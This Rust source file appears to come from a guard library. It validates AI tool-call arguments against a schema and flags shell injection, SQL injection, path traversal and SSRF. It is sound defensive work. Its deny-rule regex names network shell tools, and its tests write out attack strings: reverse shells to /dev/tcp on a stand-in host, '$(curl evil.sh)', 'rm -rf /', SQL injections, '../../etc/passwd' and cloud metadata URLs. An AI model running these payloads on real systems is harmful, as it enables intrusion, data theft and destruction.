//! Tool calls the model asks for: declared, well-formed, matching their schema, and
//! free of injection in their argument values.

use std::fmt;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::sync::OnceLock;

use regex::{Regex, RegexBuilder};
use serde_json::Value;

/// Why a tool call's arguments were refused; see [`check_tool_arguments`].
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum ToolViolation {
    /// The arguments are not a JSON object.
    InvalidJson,
    /// The arguments do not match the declared schema; the text says where and why.
    Schema(String),
    /// A value carries shell metacharacters or command substitution.
    ShellInjection,
    /// A value carries stacked SQL statements, a tautology or a comment-out.
    SqlInjection,
    /// A value walks out of a directory or names a sensitive system path.
    PathTraversal,
    /// A value is a URL to an internal address: loopback, private ranges, link-local,
    /// cloud metadata endpoints, or a local-file scheme.
    Ssrf,
}

impl ToolViolation {
    /// The finding's rule id (`tool.schema`, `tool.ssrf`, ...).
    pub fn rule_id(&self) -> &'static str {
        match self {
            Self::InvalidJson => "tool.invalid_json",
            Self::Schema(_) => "tool.schema",
            Self::ShellInjection => "tool.shell_injection",
            Self::SqlInjection => "tool.sql_injection",
            Self::PathTraversal => "tool.path_traversal",
            Self::Ssrf => "tool.ssrf",
        }
    }
}

impl fmt::Display for ToolViolation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::InvalidJson => f.write_str("arguments are not a JSON object"),
            Self::Schema(why) => write!(f, "arguments do not match the schema: {why}"),
            Self::ShellInjection => f.write_str("a value carries shell metacharacters"),
            Self::SqlInjection => f.write_str("a value carries SQL injection"),
            Self::PathTraversal => f.write_str("a value walks out of its directory"),
            Self::Ssrf => f.write_str("a value is a URL to an internal address"),
        }
    }
}

struct DenyRules {
    shell: Regex,
    sql: Regex,
    path: Regex,
    url: Regex,
}

fn deny_rules() -> &'static DenyRules {
    static RULES: OnceLock<DenyRules> = OnceLock::new();
    RULES.get_or_init(|| {
        let re = |p: &str| {
            RegexBuilder::new(p)
                .size_limit(1 << 22)
                .build()
                .unwrap_or_else(|e| panic!("built-in tool rule: {e}"))
        };
        const CMD: &str = r"(?:rm|curl|wget|nc|ncat|netcat|bash|sh|zsh|dash|ksh|python[0-9.]*|perl|ruby|php|node|chmod|chown|sudo|su|cat|tac|head|tail|echo|printf|eval|exec|kill|pkill|mkfifo|dd|mv|cp|scp|ssh|base64|xxd|powershell|pwsh|cmd|telnet|socat|id|whoami|uname|env|export|touch|tee|ls|find|xargs|awk|sed)";
        DenyRules {
            // A command after a separator (with or without its path), a reverse shell
            // through /dev/tcp, substitutions, redirection into system paths. After a
            // line break only a lowercase command with an argument counts ("Find
            // attached" opens an e-mail line, `find / -name` runs); backticks only
            // around a command (`<b>` in a message is markdown code).
            shell: re(&format!(
                r"(?i)\$\(|`\s*(?:[\w.\-]*/)?{CMD}\b[^`]*`|\$\{{[^}}]*\}}|\$IFS|(?:;|&&|\|\|?)\s*(?:[\w.\-]*/)?{CMD}\b|(?-i:[\n\r][ \t]*(?:[\w.\-]*/)?{CMD}[ \t]+[-/$~.'\x22])|/dev/(?:tcp|udp)/|>>?\s*/(?:etc|dev|tmp|var|root|home|usr|bin|proc)\b|<\(|\b{CMD}\s+-[a-z]*\s+[^\s]*\s*(?:;|&&|\|)"
            )),
            // SQL comments count as whitespace (`UNION/**/SELECT`); a tautology needs
            // a literal on its left (`' OR 1=1`, not `'open' AND amount > 200`).
            sql: re(
                r"(?i);(?:\s|/\*[^*]*\*/)*(?:drop|delete|insert|update|alter|create|truncate|exec|execute|grant|revoke|shutdown|declare|merge|replace|rename|attach|copy)\b|'\s*(?:or|and|\|\|)\s*(?:'[^']*'|\d+|true)\s*(?:=|<>|!=|like|>|<|is)\s*(?:'[^']*'?|\d+|true|null|[a-z_]+)|\b(?:or|and)\s+(?:1\s*=\s*1|'1'\s*=\s*'1'|true)\b|\bunion(?:\s|/\*[^*]*\*/)+(?:all(?:\s|/\*[^*]*\*/)+)?select\b|'\s*\)?\s*;?\s*(?:--|#|/\*)|\b(?:sleep|pg_sleep|benchmark)\s*\(\s*\d|\bwaitfor\s+delay\b|\bxp_cmdshell\b|\binto\s+(?:out|dump)file\b|\bload_file\s*\(",
            ),
            path: re(
                r"(?i)(?:^|[\\/=\s'\x22])\.\.(?:[\\/]|$)|%2e%2e|%252e|\.\.%2f|\.\.%5c|%c0%ae|\.\.;|(?:^|[\s'\x22=:])(?:/etc/(?:passwd|shadow|sudoers|group|hosts|ssh)|/proc/(?:self|\d+)/|/var/run/secrets|/root(?:/|$)|~/\.(?:ssh|aws|kube|gnupg|docker|config)|c:\\windows\\(?:system32|win\.ini)|\\\\[a-z0-9.\-]+\\[a-z$]+)|\x00",
            ),
            url: re(r"(?i)\b(?:[a-z][a-z0-9+.\-]{1,15}):(?://)?[^\s\x22'<>`]+"),
        }
    })
}

/// Whether an IPv4 address is internal: loopback, private, link-local (cloud
/// metadata), CGNAT, unspecified, broadcast or benchmarking.
fn internal_v4(ip: Ipv4Addr) -> bool {
    let o = ip.octets();
    ip.is_loopback()
        || ip.is_private()
        || ip.is_link_local()
        || ip.is_unspecified()
        || ip.is_broadcast()
        || (o[0] == 100 && (64..128).contains(&o[1]))
        || (o[0] == 198 && (o[1] == 18 || o[1] == 19))
        || o[0] == 0
}

fn internal_v6(ip: Ipv6Addr) -> bool {
    let s = ip.segments();
    ip.is_loopback()
        || ip.is_unspecified()
        || (s[0] & 0xfe00) == 0xfc00
        || (s[0] & 0xffc0) == 0xfe80
        || ip.to_ipv4_mapped().is_some_and(internal_v4)
        || (s[0] == 0xfd00 && s[1] == 0x0ec2) // AWS IMDS over IPv6
}

/// Parses an IPv4 host in the forms that `inet_aton` accepts: dotted with 1 to 4
/// parts, each decimal, octal (`0177`) or hex (`0x7f`); `2130706433` is 127.0.0.1.
fn parse_loose_v4(host: &str) -> Option<Ipv4Addr> {
    let parts: Vec<&str> = host.split('.').collect();
    if parts.is_empty() || parts.len() > 4 || parts.iter().any(|p| p.is_empty()) {
        return None;
    }
    let num = |p: &str| -> Option<u64> {
        let p = p.to_ascii_lowercase();
        if let Some(h) = p.strip_prefix("0x") {
            u64::from_str_radix(h, 16).ok()
        } else if p.len() > 1 && p.starts_with('0') {
            u64::from_str_radix(&p[1..], 8).ok()
        } else {
            p.parse().ok()
        }
    };
    let nums: Vec<u64> = parts.iter().map(|p| num(p)).collect::<Option<_>>()?;
    let (last, head) = nums.split_last()?;
    if head.iter().any(|&n| n > 255) {
        return None;
    }
    let rest_bits = 8 * (4 - head.len() as u32);
    if *last >= 1u64 << rest_bits {
        return None;
    }
    let mut v: u64 = 0;
    for (i, &n) in head.iter().enumerate() {
        v |= n << (24 - 8 * i as u32);
    }
    v |= last;
    Some(Ipv4Addr::from(u32::try_from(v).ok()?))
}

/// Whether a host names an internal address (see [`ToolViolation::Ssrf`]).
pub(crate) fn internal_host(host: &str) -> bool {
    let h = host.trim_end_matches('.').to_ascii_lowercase();
    if h.is_empty() {
        return false;
    }
    if let Some(v6) = h.strip_prefix('[').and_then(|r| r.strip_suffix(']')) {
        let v6 = v6.split('%').next().unwrap_or(v6);
        return v6.parse::<Ipv6Addr>().is_ok_and(internal_v6);
    }
    if let Ok(ip) = h.parse::<IpAddr>() {
        return match ip {
            IpAddr::V4(v4) => internal_v4(v4),
            IpAddr::V6(v6) => internal_v6(v6),
        };
    }
    if let Some(v4) = parse_loose_v4(&h) {
        return internal_v4(v4);
    }
    const NAMES: &[&str] = &[
        "localhost",
        "metadata",
        "metadata.google.internal",
        "instance-data",
        "instance-data.ec2.internal",
        "metadata.azure.com",
        "kubernetes.default",
        "kubernetes.default.svc",
    ];
    NAMES.contains(&h.as_str())
        || [
            ".localhost",
            ".internal",
            ".local",
            ".localdomain",
            ".svc",
            ".cluster.local",
        ]
        .iter()
        .any(|s| h.ends_with(s))
        || h.ends_with(".nip.io") && h.starts_with("127.")
}

/// The host of a URL-looking string, without user info and port.
pub(crate) fn url_host(url: &str) -> Option<&str> {
    let rest = url.split_once("//").map(|(_, r)| r)?;
    let authority = rest.split(['/', '?', '#', '\\']).next()?;
    let host_port = authority.rsplit('@').next()?;
    if host_port.starts_with('[') {
        return host_port.find(']').map(|i| &host_port[..=i]);
    }
    Some(host_port.split(':').next().unwrap_or(host_port))
}

fn ssrf(value: &str) -> bool {
    let rules = deny_rules();
    rules.url.find_iter(value).any(|m| {
        let u = m.as_str();
        let scheme = u.split(':').next().unwrap_or("").to_ascii_lowercase();
        match scheme.as_str() {
            "file" | "gopher" | "dict" | "ldap" | "ldaps" | "jar" | "netdoc" | "tftp" => true,
            // The WHATWG reading of the host: percent-encoded, full-width and every
            // IPv4 notation resolve to the address a client would connect to.
            "http" | "https" | "ftp" | "ws" | "wss" => match url::Url::parse(u) {
                Ok(p) => super::links::host_of(&p).is_some_and(|h| internal_host(&h)),
                Err(_) => url_host(u).is_some_and(internal_host),
            },
            _ => false,
        }
    })
}

/// Checks one string value against the deny rules.
fn check_value(s: &str, out: &mut Vec<ToolViolation>) {
    let rules = deny_rules();
    let mut add = |v: ToolViolation| {
        if !out.contains(&v) {
            out.push(v);
        }
    };
    if rules.shell.is_match(s) {
        add(ToolViolation::ShellInjection);
    }
    if rules.sql.is_match(s) {
        add(ToolViolation::SqlInjection);
    }
    if rules.path.is_match(s) {
        add(ToolViolation::PathTraversal);
    }
    if ssrf(s) {
        add(ToolViolation::Ssrf);
    }
}

fn walk_strings(v: &Value, depth: usize, out: &mut Vec<ToolViolation>) {
    if depth > 64 {
        return;
    }
    match v {
        Value::String(s) => check_value(s, out),
        Value::Array(a) => a.iter().for_each(|x| walk_strings(x, depth + 1, out)),
        Value::Object(o) => o.iter().for_each(|(k, x)| {
            check_value(k, out);
            walk_strings(x, depth + 1, out);
        }),
        _ => {}
    }
}

/// Checks a tool call's arguments: they must be one JSON object, match `schema` (a
/// JSON Schema subset, see below) when one is given, and no string in them (keys or
/// values, at any depth) may carry shell injection, SQL injection, path traversal or
/// a URL to an internal address.
///
/// The schema subset: `type` (one or a list), `enum`, `const`, `properties`,
/// `required`, `additionalProperties` (boolean or schema), `items`, `minItems`,
/// `maxItems`, `minLength`, `maxLength` (in characters), `pattern` (compiled with a
/// size limit, so it cannot make checking super-linear), `minimum`, `maximum`,
/// `exclusiveMinimum`, `exclusiveMaximum`, `anyOf`, `oneOf`, `allOf`. Other keywords
/// are ignored.
///
/// ```
/// use inference_guard::output::{check_tool_arguments, ToolViolation};
/// use serde_json::json;
///
/// let schema = json!({"type": "object", "required": ["path"],
///                     "properties": {"path": {"type": "string", "maxLength": 64}}});
/// assert!(check_tool_arguments(Some(&schema), r#"{"path": "notes/today.md"}"#).is_empty());
/// assert_eq!(
///     check_tool_arguments(Some(&schema), r#"{"path": "../../etc/passwd"}"#),
///     [ToolViolation::PathTraversal]
/// );
/// assert!(matches!(
///     check_tool_arguments(Some(&schema), r#"{"file": "a"}"#)[0],
///     ToolViolation::Schema(_)
/// ));
/// ```
pub fn check_tool_arguments(schema: Option<&Value>, arguments: &str) -> Vec<ToolViolation> {
    let mut out = Vec::new();
    let Ok(value) = serde_json::from_str::<Value>(arguments) else {
        return vec![ToolViolation::InvalidJson];
    };
    if !value.is_object() {
        return vec![ToolViolation::InvalidJson];
    }
    if let Some(s) = schema {
        if let Err(why) = check_schema(s, &value, "$", 0) {
            out.push(ToolViolation::Schema(why));
        }
    }
    walk_strings(&value, 0, &mut out);
    out
}

fn type_matches(t: &str, v: &Value) -> bool {
    match t {
        "object" => v.is_object(),
        "array" => v.is_array(),
        "string" => v.is_string(),
        "boolean" => v.is_boolean(),
        "null" => v.is_null(),
        "number" => v.is_number(),
        "integer" => {
            v.as_i64().is_some()
                || v.as_u64().is_some()
                || v.as_f64().is_some_and(|f| f.fract() == 0.0)
        }
        _ => true,
    }
}

/// Checks `value` against `schema` (the subset documented on
/// [`check_tool_arguments`]); the error names the path and the rule.
pub(crate) fn check_schema(
    schema: &Value,
    value: &Value,
    path: &str,
    depth: usize,
) -> Result<(), String> {
    if depth > 32 {
        return Err(format!("{path}: schema nested too deeply"));
    }
    let Some(s) = schema.as_object() else {
        // `true` accepts everything, `false` nothing.
        return if schema == &Value::Bool(false) {
            Err(format!("{path}: not allowed"))
        } else {
            Ok(())
        };
    };
    match s.get("type") {
        Some(Value::String(t)) if !type_matches(t, value) => {
            return Err(format!("{path}: expected {t}"));
        }
        Some(Value::Array(ts))
            if !ts
                .iter()
                .filter_map(Value::as_str)
                .any(|t| type_matches(t, value)) =>
        {
            return Err(format!("{path}: unexpected type"));
        }
        _ => {}
    }
    if let Some(Value::Array(e)) = s.get("enum") {
        if !e.contains(value) {
            return Err(format!("{path}: not one of the allowed values"));
        }
    }
    if let Some(c) = s.get("const") {
        if c != value {
            return Err(format!("{path}: not the required value"));
        }
    }
    match value {
        Value::Object(o) => {
            if let Some(Value::Array(req)) = s.get("required") {
                if let Some(missing) = req
                    .iter()
                    .filter_map(Value::as_str)
                    .find(|k| !o.contains_key(*k))
                {
                    return Err(format!("{path}: missing {missing}"));
                }
            }
            let props = s.get("properties").and_then(Value::as_object);
            for (k, v) in o {
                let sub = format!("{path}.{k}");
                match props.and_then(|p| p.get(k)) {
                    Some(ps) => check_schema(ps, v, &sub, depth + 1)?,
                    None => match s.get("additionalProperties") {
                        Some(Value::Bool(false)) => return Err(format!("{sub}: not allowed")),
                        Some(extra @ Value::Object(_)) => check_schema(extra, v, &sub, depth + 1)?,
                        _ => {}
                    },
                }
            }
        }
        Value::Array(a) => {
            let n = a.len() as u64;
            if s.get("minItems")
                .and_then(Value::as_u64)
                .is_some_and(|m| n < m)
            {
                return Err(format!("{path}: too few items"));
            }
            if s.get("maxItems")
                .and_then(Value::as_u64)
                .is_some_and(|m| n > m)
            {
                return Err(format!("{path}: too many items"));
            }
            if let Some(items) = s.get("items") {
                for (i, v) in a.iter().enumerate() {
                    check_schema(items, v, &format!("{path}[{i}]"), depth + 1)?;
                }
            }
        }
        Value::String(st) => {
            let n = st.chars().count() as u64;
            if s.get("minLength")
                .and_then(Value::as_u64)
                .is_some_and(|m| n < m)
            {
                return Err(format!("{path}: too short"));
            }
            if s.get("maxLength")
                .and_then(Value::as_u64)
                .is_some_and(|m| n > m)
            {
                return Err(format!("{path}: too long"));
            }
            if let Some(p) = s.get("pattern").and_then(Value::as_str) {
                let re = RegexBuilder::new(p)
                    .size_limit(1 << 20)
                    .dfa_size_limit(1 << 20)
                    .nest_limit(32)
                    .build()
                    .map_err(|_| format!("{path}: the schema's pattern does not compile"))?;
                if !re.is_match(st) {
                    return Err(format!("{path}: does not match the pattern"));
                }
            }
        }
        Value::Number(num) => {
            let x = num.as_f64().unwrap_or(f64::NAN);
            let bound = |k: &str| s.get(k).and_then(Value::as_f64);
            if bound("minimum").is_some_and(|m| x < m)
                || bound("exclusiveMinimum").is_some_and(|m| x <= m)
            {
                return Err(format!("{path}: below the minimum"));
            }
            if bound("maximum").is_some_and(|m| x > m)
                || bound("exclusiveMaximum").is_some_and(|m| x >= m)
            {
                return Err(format!("{path}: above the maximum"));
            }
        }
        _ => {}
    }
    if let Some(Value::Array(all)) = s.get("allOf") {
        for sub in all {
            check_schema(sub, value, path, depth + 1)?;
        }
    }
    if let Some(Value::Array(any)) = s.get("anyOf") {
        if !any
            .iter()
            .any(|sub| check_schema(sub, value, path, depth + 1).is_ok())
        {
            return Err(format!("{path}: matches none of anyOf"));
        }
    }
    if let Some(Value::Array(one)) = s.get("oneOf") {
        if one
            .iter()
            .filter(|sub| check_schema(sub, value, path, depth + 1).is_ok())
            .count()
            != 1
        {
            return Err(format!("{path}: does not match exactly one of oneOf"));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn violations(value: &str) -> Vec<ToolViolation> {
        let args = serde_json::json!({ "v": value }).to_string();
        check_tool_arguments(None, &args)
    }

    #[test]
    fn attacks_in_arguments_and_ordinary_values() {
        for (value, expected) in [
            (
                "http://%31%36%39.254.169.254/latest/meta-data",
                ToolViolation::Ssrf,
            ),
            (
                "http://\u{ff11}\u{ff12}\u{ff17}.0.0.1/",
                ToolViolation::Ssrf,
            ),
            ("http://0x7f.1/admin", ToolViolation::Ssrf),
            ("http://[::ffff:169.254.169.254]/", ToolViolation::Ssrf),
            ("http://metadata.google.internal./x", ToolViolation::Ssrf),
            (
                "x; /bin/sh -i >& /dev/tcp/10.0.0.1/4242 0>&1",
                ToolViolation::ShellInjection,
            ),
            (
                "bash -i >& /dev/tcp/attacker.test/9001",
                ToolViolation::ShellInjection,
            ),
            ("report\nrm -rf /", ToolViolation::ShellInjection),
            (
                "1 UNION/**/SELECT password FROM users",
                ToolViolation::SqlInjection,
            ),
            ("x';/**/DROP TABLE users", ToolViolation::SqlInjection),
            ("' OR 'a'='a", ToolViolation::SqlInjection),
        ] {
            assert!(
                violations(value).contains(&expected),
                "{value}: {:?}",
                violations(value)
            );
        }
        for value in [
            "SELECT * FROM orders WHERE status = 'open' AND amount > 200",
            "Hi Bob,\nFind attached the report.\nCat and I will call you.",
            "https://docs.example.com/guide?page=2",
            "http://example.com/%31%36%39",
        ] {
            assert!(
                violations(value).is_empty(),
                "{value}: {:?}",
                violations(value)
            );
        }
    }

    #[test]
    fn internal_hosts_in_their_disguises() {
        for h in [
            "169.254.169.254",
            "127.0.0.1",
            "localhost",
            "10.1.2.3",
            "192.168.0.1",
            "172.16.5.4",
            "[::1]",
            "[fd00:ec2::254]",
            "[::ffff:127.0.0.1]",
            "2130706433",
            "0x7f000001",
            "0177.0.0.1",
            "127.1",
            "metadata.google.internal",
            "0.0.0.0",
        ] {
            assert!(internal_host(h), "{h}");
        }
        for h in [
            "example.com",
            "8.8.8.8",
            "[2606:4700::1111]",
            "api.openai.com",
        ] {
            assert!(!internal_host(h), "{h}");
        }
    }

    #[test]
    fn deny_rules_and_their_look_alikes() {
        let v = |s: &str| {
            let mut out = Vec::new();
            check_value(s, &mut out);
            out
        };
        assert_eq!(v("report.txt; rm -rf /"), [ToolViolation::ShellInjection]);
        assert_eq!(v("$(curl evil.sh)"), [ToolViolation::ShellInjection]);
        assert_eq!(v("x' OR '1'='1"), [ToolViolation::SqlInjection]);
        assert_eq!(v("1; DROP TABLE users"), [ToolViolation::SqlInjection]);
        assert_eq!(v("../../etc/passwd"), [ToolViolation::PathTraversal]);
        assert_eq!(
            v("http://169.254.169.254/latest/meta-data/"),
            [ToolViolation::Ssrf]
        );
        assert!(v("file:///etc/hosts").contains(&ToolViolation::Ssrf));
        for ok in [
            "Tom & Jerry; a classic",
            "What's the weather in Paris?",
            "notes/2024/summary.md",
            "https://example.com/docs?page=2",
            "SELECT is a keyword; so is FROM",
            "It's 5 o'clock",
            "v1.2..v1.3 changes",
        ] {
            assert!(v(ok).is_empty(), "{ok}: {:?}", v(ok));
        }
    }
}
